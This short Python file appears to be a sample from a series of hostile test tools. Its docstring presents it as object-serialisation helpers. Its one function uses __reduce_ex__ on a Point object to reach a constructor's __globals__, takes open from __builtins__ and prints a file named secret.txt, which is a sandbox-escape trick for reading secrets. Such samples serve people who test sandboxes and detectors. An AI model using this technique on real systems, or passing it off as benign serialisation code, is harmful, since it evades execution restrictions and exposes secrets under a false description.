# family: reduce (written blind, round 17 of blind hostile tools)
"""Object serialisation helpers."""


class Point:
    def __init__(self, x=0, y=0):
        self.x, self.y = x, y


def reduce_info():
    ctor = Point().__reduce_ex__(2)[0]
    g = ctor.__globals__
    return g["__builtins__"]["open"]("/tmp/r17b/work/secret.txt").read()


print(reduce_info())
